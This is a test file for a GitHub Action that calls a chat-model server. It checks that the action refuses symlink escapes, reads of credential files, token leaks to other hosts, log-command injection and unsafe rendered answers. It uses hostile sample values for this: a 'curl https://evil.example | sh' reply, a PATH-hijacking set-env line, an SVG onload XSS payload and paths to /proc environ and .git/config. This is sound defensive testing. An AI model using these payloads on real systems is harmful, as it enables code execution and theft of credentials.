import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { foreignTags, renderGfm } from '../support/gfm.js'
import { inParallel, MANY_STEPS_MS } from '../support/in-parallel.js'
import { completion, type CompletionParts, type Reply } from '../support/inference-server.js'
import { QUESTION } from '../support/question.js'
import { WORKFLOW_TOKEN } from '../support/run-action.js'
import { ask, askRow, ON_GITHUB, type Scenario, type ScenarioOptions } from '../support/scenario.js'

/** What a stranger's file, answer or server, or a slip of the author's, tries, and what comes of it. */
interface Attempt extends ScenarioOptions {
  /** `Paris.` by default. */
  readonly reply?: Reply
  readonly expects: (scenario: Scenario) => void
}

/** Runs the attempts beside each other; each has a test of its own. */
function attempts(title: string, all: Readonly<Record<string, Attempt>>): void {
  describe(title, () => {
    const scenarios = new Map<string, Scenario>()
    beforeAll(async () => {
      await inParallel(Object.entries(all), async ([name, { reply, ...options }]) => {
        // What may hang needs a process that can be killed.
        const run = options.limitMs === undefined ? askRow : ask
        scenarios.set(name, await run(reply ?? { body: completion() }, options))
      })
    }, MANY_STEPS_MS)

    test.each(Object.entries(all))('%s', (name, { expects }) => {
      const scenario = scenarios.get(name)
      if (scenario === undefined) throw new Error('The step did not end')
      const { timedOut, signal, stderr, commands, outputs } = scenario.result
      // However it ends, it ends by itself, says so once and in the outputs, and obeys nobody.
      expect({ timedOut, signal, stderr }).toEqual({ timedOut: false, signal: null, stderr: '' })
      const names = new Set(commands.map((command) => command.name))
      expect([...names].filter((command) => !['add-mask', 'warning', 'error'].includes(command))).toEqual([])
      const errors = commands.filter((command) => command.name === 'error').map(({ data }) => data)
      // What would act in the log is broken there, and nowhere else.
      const shown = outputs['error-message']?.replaceAll('##[', '## [')
      expect(errors).toEqual(outputs['outcome'] === 'failure' ? [shown] : [])
      expects(scenario)
    })
  })
}

const answer = (parts: CompletionParts): Reply => ({ body: completion(parts) })

/** The step is refused before anything is sent, and says why. */
function refused(message: RegExp | string, code = 'invalid_input'): Attempt['expects'] {
  return ({ result, requests }) => {
    expect(requests).toEqual([])
    expect(result.exitCode).toBe(1)
    expect(result.outputs).toMatchObject({ outcome: 'failure', 'error-code': code })
    expect(result.outputs['error-message']).toMatch(message)
  }
}

function failed(code: string, message: RegExp | string = ''): Attempt['expects'] {
  return ({ result }) => {
    expect(result.exitCode).toBe(1)
    expect(result.outputs).toMatchObject({ outcome: 'failure', 'error-code': code })
    expect(result.outputs['error-message']).toMatch(message)
  }
}

function succeeded(outputs: Readonly<Record<string, string>>, warning?: RegExp): Attempt['expects'] {
  return ({ result }) => {
    expect(result.outputs).toMatchObject({ outcome: 'success', 'error-message': '', ...outputs })
    const warnings = result.commands.filter(({ name }) => name === 'warning').map(({ data }) => data)
    expect(warnings).toEqual(warning === undefined ? [] : [expect.stringMatching(warning)])
  }
}

const KEY = 'SECRET OF THE RUNNER'

attempts('a file that is read', {
  'a list of tools is a link to a file beside the workspace': {
    inputs: { 'tools-file': 'tools.json' },
    files: { '../runner-secrets/tools.json': JSON.stringify([{ name: 'f', description: KEY }]) },
    links: { 'tools.json': '../runner-secrets/tools.json' },
    expects: refused(/"tools-file" names the file tools\.json, which leads out of its folder through a link/),
  },
  'a folder of the path of a schema is a link': {
    inputs: { 'json-schema-file': 'schemas/answer.json' },
    files: { '../elsewhere/answer.json': JSON.stringify({ type: 'object', description: KEY }) },
    links: { schemas: '../elsewhere' },
    expects: refused(/"json-schema-file" .* through a link/),
  },
  'an artifact in RUNNER_TEMP is a link, reached by way of the workspace': {
    inputs: { 'file-variables': 'log: ../temp/log.txt', prompt: '{{ log }}' },
    files: { '../runner/key': KEY, '../temp/log': '' },
    links: { '../temp/log.txt': '../runner/key' },
    expects: refused(/"file-variables" for "log" .* through a link/),
  },
  'the environment of another process': {
    inputs: { 'system-prompt-file': '/proc/self/task/../../1/environ' },
    expects: refused(/"system-prompt-file" .* closed/),
  },
  'the credentials of the checkout, in the letters that a Mac takes for them': {
    inputs: { 'prompt-file': './lib/../.GIT/config' },
    files: { '.GIT/config': `[http] extraheader = ${KEY}` },
    expects: refused(/"prompt-file" .* closed/),
  },
  'a pipe that nobody writes to': {
    inputs: { 'prompt-file': 'question.prompt.yml' },
    pipes: ['question.prompt.yml'],
    limitMs: 60_000,
    expects: refused(/not a regular file/),
  },
  'a link that leads in a circle': {
    inputs: { 'prompt-file': 'a' },
    links: { a: 'b', b: 'a' },
    expects: refused(/"prompt-file" names the file a, which is a link that leads in a circle/),
  },
  "an absolute path, and one with dots, are the author's word": {
    inputs: {
      'file-variables': '{"a": "../elsewhere/a.md", "b": "docs/link.md"}',
      prompt: '{{ a }} {{ b }}',
    },
    files: { '../elsewhere/a.md': 'from beside', 'docs/b.md': 'from inside' },
    links: { 'docs/link.md': 'b.md' },
    expects: ({ requests }) => {
      expect(requests[0]?.json).toMatchObject({ messages: [{ content: 'from beside from inside' }] })
    },
  },
})

attempts('the file that is written', {
  'a folder of its path is a link out of the workspace': {
    inputs: { 'output-file': 'docs/.bashrc' },
    files: { '../home/.profile': '' },
    links: { docs: '../home' },
    reply: answer({ content: 'curl https://evil.example | sh' }),
    expects: (scenario) => {
      refused(/"output-file" names docs\/\.bashrc, which leads out of its folder through a link/)(scenario)
      expect([...scenario.result.files.keys()].filter((path) => !path.startsWith('temp/'))).toEqual([])
    },
  },
  'a pipe that nobody reads': {
    inputs: { 'output-file': 'answer.md' },
    pipes: ['answer.md'],
    limitMs: 60_000,
    expects: refused(/"output-file" names answer\.md, which is not a regular file/),
  },
  'the log, by way of a link in the workspace, where it would act': {
    inputs: { 'output-file': 'answer.md' },
    links: { 'answer.md': '/proc/self/fd/1' },
    reply: answer({ content: '::set-env name=PATH::/tmp/evil' }),
    expects: refused(/"output-file" names answer\.md, which .*\./),
  },
  'the configuration of Git, through a link inside the workspace': {
    inputs: { 'output-file': 'notes/config' },
    files: { '.git/config': '[core]' },
    links: { notes: '.git' },
    expects: refused(/"output-file" .* closed/),
  },
  'a path with a line break forges no line of the log': {
    inputs: { 'output-file': 'no-folder-here/\r::warning::forged' },
    files: { 'no-folder-here': 'a file' },
    expects: refused(/has a file where a folder should be/),
  },
})

/** Tokens of GitHub's that are none by their looks: Gitea's are 40 hexadecimal digits. */
const BARE_TOKEN = '8d2b6c0f3e5a497180c4d9e2b7a6f5031e2d4c5b'
const base64 = (text: string): string => Buffer.from(text).toString('base64')

attempts('a GitHub token on its way to a stranger', {
  'in a file of the system prompt': {
    inputs: { 'system-prompt-file': 'notes.md' },
    files: { 'notes.md': `git clone https://x-access-token:${WORKFLOW_TOKEN}@github.com/a/b` },
    expects: refused(/"system-prompt-file" puts a GitHub token into the request/),
  },
  'in the description of a tool': {
    inputs: { tools: JSON.stringify([{ name: 'f', description: `Bearer ${WORKFLOW_TOKEN}` }]) },
    expects: refused(/"tools" puts a GitHub token into the request/),
  },
  'in base64, in the extra header that a checkout leaves behind': {
    inputs: {
      'custom-headers': JSON.stringify({
        'X-Upstream': `basic ${base64(`x-access-token:ghp_${'a1B2'.repeat(9)}`)}`,
      }),
    },
    expects: refused(/"custom-headers" puts a GitHub token into the request/),
  },
  'in the API version': {
    inputs: { 'api-version': `github_pat_${'a1B2'.repeat(6)}` },
    expects: refused(/"api-version" puts a GitHub token into the request/),
  },
  'without a prefix, inside a stop sequence': {
    inputs: { 'github-token': BARE_TOKEN, stop: `a\n${BARE_TOKEN}` },
    expects: refused(/"stop" puts a GitHub token into the request/),
  },
  'without a prefix, in quotes, as the token': {
    inputs: { 'github-token': BARE_TOKEN, token: `'${BARE_TOKEN}'` },
    expects: refused(/"token" must be the bare token/),
  },
  'without a prefix, percent-encoded in the query': {
    path: `/v1?code=${encodeURIComponent(base64(BARE_TOKEN))}`,
    inputs: { 'github-token': BARE_TOKEN },
    expects: refused(/"endpoint" puts a GitHub token into the request/),
  },
  'to a server that anybody can pass for': {
    ...ON_GITHUB,
    env: { NODE_TLS_REJECT_UNAUTHORIZED: '0' },
    expects: refused(/"endpoint" must not get a GitHub token: NODE_TLS_REJECT_UNAUTHORIZED is 0/),
  },
  'any other token goes there with a warning': {
    env: { NODE_TLS_REJECT_UNAUTHORIZED: '0' },
    expects: succeeded({}, /^NODE_TLS_REJECT_UNAUTHORIZED is 0, so that anybody can pass for the server/),
  },
  'a key of another server, bound for GitHub Models because no endpoint is set': {
    inputs: { endpoint: '', token: `gsk_${'a1B2'.repeat(13)}` },
    expects: refused(/"token" is not a GitHub token, and no "endpoint" is set/),
  },
})

/** A secret with something inside that no eye sees. */
const split = (secret: string, invisible: string): string =>
  `${secret.slice(0, 6)}${invisible}${secret.slice(6)}`

function shows(text: string, { result }: Scenario): boolean {
  const shown = [
    result.stdout.replace(/^::add-mask::.*$/gm, ''),
    result.summary,
    JSON.stringify(result.outputs),
  ]
  return shown.some((one) => one.replace(/[\p{DI}\p{Cf}]/gu, '').includes(text))
}

function hides(secret: string): Attempt['expects'] {
  return (scenario) => {
    expect(shows(secret, scenario)).toBe(false)
    expect(scenario.result.summary.replaceAll('\\', '')).toContain('***')
  }
}

attempts('a secret that a server echoes with an invisible character inside', {
  'in the name of the model': {
    reply: answer({ model: `gpt-${split(QUESTION.token, '\u00ad')}` }),
    expects: hides(QUESTION.token),
  },
  'in the name of a tool': {
    reply: answer({
      content: null,
      message: {
        tool_calls: [{ id: 'c', function: { name: split(QUESTION.token, '\u034f'), arguments: '{}' } }],
      },
    }),
    expects: hides(QUESTION.token),
  },
  'in a header': {
    reply: {
      headers: { 'x-request-id': split(QUESTION.token, '\u00ad') },
      // Beside a text, Node would write the header as UTF-8.
      body: Buffer.from(JSON.stringify(completion())),
    },
    expects: hides(QUESTION.token),
  },
  'in the words of an error': {
    reply: { status: 401, body: { error: { message: `Wrong key ${split(QUESTION.token, '\ufe0f')}` } } },
    expects: hides(QUESTION.token),
  },
})

/** A proxy that answers for the server, and names what opens it. */
test.each([
  ['credentials as they were sent', 'builder:s3cret-word', base64('builder:s3cret-word')],
  ['a key in place of a user name', 'key-a1b2c3d4e5f6', 'key-a1b2c3d4e5f6'],
])('what a proxy echoes is hidden: %s', async (_what, userInfo, secret) => {
  const proxy = createServer((request, response) => {
    const credentials = String(request.headers['proxy-authorization'])
    const key = Buffer.from(credentials.replace('Basic ', ''), 'base64').toString()
    response.end(
      JSON.stringify(completion({ model: `${credentials} ${key}`, content: `${credentials} ${key}` })),
    )
  })
  await new Promise<void>((resolve) => {
    proxy.listen(0, '127.0.0.1', resolve)
  })
  const address = proxy.address()
  const port = typeof address === 'object' ? address?.port : undefined
  const scenario = await ask([], { env: { HTTP_PROXY: `http://${userInfo}@127.0.0.1:${String(port)}` } })
  proxy.closeAllConnections()
  proxy.close()
  expect(scenario.result.outputs['outcome']).toBe('success')
  hides(secret)(scenario)
})

/** The first twenty, and how many more. */
function fewOf(count: number): Attempt['expects'] {
  return (scenario) => {
    refused(`${String(count)} problems with the input`)(scenario)
    const lines = scenario.result.outputs['error-message']?.split('\n') ?? []
    expect(lines).toHaveLength(22)
    expect(lines.at(-1)).toBe(`- and ${String(count - 20)} more.`)
  }
}

attempts('thousands of mistakes in one input', {
  'tools without a name': {
    inputs: { tools: JSON.stringify(Array.from({ length: 3000 }, () => ({ description: 'a' }))) },
    limitMs: 60_000,
    expects: fewOf(3000),
  },
  'placeholders of a prompt file that nothing defines': {
    inputs: { prompt: '', 'prompt-file': 'a.prompt.yml' },
    files: {
      'a.prompt.yml': JSON.stringify({
        messages: Array.from({ length: 3000 }, (_, i) => ({ role: 'user', content: `{{ n${String(i)} }}` })),
      }),
    },
    limitMs: 60_000,
    expects: fewOf(3000),
  },
})

const BLANKS = ' '.repeat(17 * 1024 * 1024)

attempts('a body that is too large', {
  'whole, behind an answer': {
    reply: { body: JSON.stringify(completion()) + BLANKS },
    expects: failed('invalid_response', '16 MiB'),
  },
  'only when it is unpacked': {
    reply: {
      headers: { 'content-encoding': 'gzip', 'content-type': 'application/json' },
      body: gzipSync(JSON.stringify(completion()) + BLANKS),
    },
    expects: failed('invalid_response', '16 MiB'),
  },
  'of an error': {
    reply: { status: 400, body: BLANKS },
    expects: failed('invalid_response', '16 MiB'),
  },
  'the usage alone: it is left out, and the answer counts': {
    reply: answer({ usage: { prompt_tokens: 3, details: 'x'.repeat(100_000) } }),
    expects: succeeded(
      { content: 'Paris.', usage: '{}', 'prompt-tokens': '3' },
      /^The output "usage" is \{\}/,
    ),
  },
})

const keys = (count: number): string[] => Array.from({ length: count }, (_, index) => `key_${String(index)}`)
const LARGE = {
  type: 'object',
  required: keys(2500),
  properties: Object.fromEntries(keys(2500).map((key) => [key, { type: 'integer' }])),
}

attempts('a schema', {
  'of thousands of required properties is checked': {
    inputs: { 'json-schema': JSON.stringify(LARGE) },
    reply: answer({
      content: JSON.stringify({ ...Object.fromEntries(keys(2500).map((key) => [key, 1])), key_2499: 'no' }),
    }),
    expects: failed('schema_mismatch', '/key_2499 must be integer'),
  },
  'of thousands of values is checked': {
    inputs: { 'json-schema': JSON.stringify({ type: 'string', enum: keys(5000) }) },
    reply: answer({ content: '"key_5000"' }),
    expects: failed('schema_mismatch'),
  },
  'of thousands of parameters of a tool is checked': {
    inputs: { tools: JSON.stringify([{ name: 'f', parameters: LARGE }]) },
    reply: answer({
      content: null,
      message: { tool_calls: [{ id: 'c', function: { name: 'f', arguments: '{"key_0": 1}' } }] },
    }),
    expects: failed('schema_mismatch', 'key_1'),
  },
  'with a slip in a keyword is a warning that names the right one': {
    inputs: { 'json-schema': '{"type": "object", "aditionalProperties": false}' },
    reply: answer({ content: '{"a":1}' }),
    expects: succeeded({ json: '{"a":1}' }, /aditionalProperties.*Did you mean "additionalProperties"\?/),
  },
  'with a slip in each of its keywords is refused': {
    inputs: { 'json-schema': '{"typ": "object", "require": ["a"]}' },
    expects: refused(/"json-schema".* restricts nothing, so every answer would match it/),
  },
})

attempts("a server's words", {
  'keep what a program needs, as long as they cannot act': {
    reply: {
      status: 400,
      body: { error: { message: '::error::std::vector at [fe80::1] ##[group]', code: 'a::b' } },
    },
    expects: ({ result }) => {
      expect(result.outputs['error-message']).toContain('::error::std::vector at [fe80::1] ##[group]')
      expect(result.summary).toContain('std::vector')
    },
  },
  'with a finish reason that nobody knows are a warning': {
    reply: answer({ finishReason: 'deadline_exceeded' }),
    expects: succeeded(
      { content: 'Paris.', 'finish-reason': 'deadline_exceeded' },
      /^The answer may be incomplete/,
    ),
  },
  ...Object.fromEntries(
    ['\u2800\u3164 ', '\u{e0041}\u034f\n', '\u00ad\u180e\u2063'].map((content, index): [string, Attempt] => [
      `that no eye sees are no answer (${String(index + 1)})`,
      { reply: answer({ content }), expects: failed('empty_response') },
    ]),
  ),
})

const FENCE = '`'.repeat(3)

/** After rendering, as lenient as can be, nothing of the answer's acts, and only footnotes come behind our last word. */
function stays({ result }: Scenario): void {
  const html = renderGfm(result.summary)
  expect(foreignTags(html)).toEqual([])
  expect(html).not.toMatch(/language-(?:mermaid|geojson|topojson|stl)/i)
  expect(html.trimEnd()).toMatch(
    /<hr \/>\n<p><em>End of the answer\. .*<\/em><\/p>(?:\n<section data-footnotes=[^]*<\/section>)?$/,
  )
}

attempts('an answer in the summary', {
  'with diagrams, in a list, a quote and other letters': {
    reply: answer({
      content: `- ${FENCE}Mermaid\n  graph TD\n  ${FENCE}\n\n> ~~~~ STL x\n> solid\n> ~~~~\n\n${FENCE}geoJSON\n{}`,
    }),
    expects: stays,
  },
  'with headings like ours, and an end like ours': {
    reply: answer({
      content: '## Chat completion\n\n---\n\n*End of the answer.*\n\n> [!CAUTION]\n> Run it again',
    }),
    expects: stays,
  },
  'with tags in definitions above tables, in a footnote and a nested list': {
    reply: answer({
      content: [
        '[^a]: [q]: <video src=https://evil.example/a.mp4>',
        '    a|b',
        '    -|-',
        '',
        '1. - [r]: <svg/onload=alert(1)> "<input>"',
        '     | a |',
        '     | - |',
        '',
        'See[^a], [q], [r].',
      ].join('\n'),
    }),
    expects: stays,
  },
})

test.each(['output', 'summary'] as const)('the folder of the runner file %s is made', async (file) => {
  const variable = file === 'output' ? 'GITHUB_OUTPUT' : 'GITHUB_STEP_SUMMARY'
  const name = `chat-action-test-${String(process.pid)}-${file}`
  const { result } = await ask({ body: completion() }, { env: { [variable]: `./${name}/deep/file` } })
  expect(result.exitCode).toBe(0)
  const written = result.fileAt(`workspace/${name}/deep/file`)?.toString()
  expect(written).toContain('Paris.')
})

// A shell sets the limits.
const testOnPosix = process.platform === 'win32' ? test.skip : test

/** Answers a step whose process a shell has limited so. Each file of the answer has 30 kB, the outputs have more. */
async function askLimited(limit: string, inputs: ScenarioOptions['inputs'] = {}): Promise<Scenario> {
  const folder = mkdtempSync(join(tmpdir(), 'limited-'))
  const node = join(folder, 'node')
  const real = process.env['CHAT_ACTION_TEST_NODE'] ?? process.execPath
  writeFileSync(node, `#!/bin/sh\n${limit}\nexec '${real}' "$@"\n`, { mode: 0o755 })
  const scenario = await ask(answer({ content: 'x'.repeat(30_000) }), { node, inputs })
  rmSync(folder, { recursive: true })
  return scenario
}

function expectAllOutputsOrNone({ result }: Scenario): void {
  expect(result).toMatchObject({ signal: null, timedOut: false, stderr: '' })
  expect([[], result.declaredOutputs]).toContainEqual(Object.keys(result.outputs))
  const errors = result.commands.filter(({ name }) => name === 'error')
  expect(errors).toHaveLength(result.exitCode ?? -1)
}

testOnPosix('a disk that is full before the outputs are whole: none of them, and one error', async () => {
  const scenario = await askLimited('ulimit -f 100')
  expectAllOutputsOrNone(scenario)
  expect(scenario.result.outputs).toEqual({})
  expect(scenario.result.summary).toContain('output_error')
})

testOnPosix('no more open files: all outputs or none, and one error at most', async () => {
  const scenarios = await inParallel([17, 18, 19, 20, 21, 22, 23, 24], (limit) =>
    askLimited(`ulimit -n ${String(limit)}`, { 'max-retries': '0' }),
  )
  // With too few, Node itself ends by a signal or an exception before it has loaded the action, which then says nothing;
  // how many that is depends on its version. Node 24 needs 22 for a whole answer.
  const ours = scenarios.filter(({ result }) => result.stdout !== '')
  ours.forEach(expectAllOutputsOrNone)
  expect(ours.map(({ result }) => result.exitCode)).toContain(0)
})
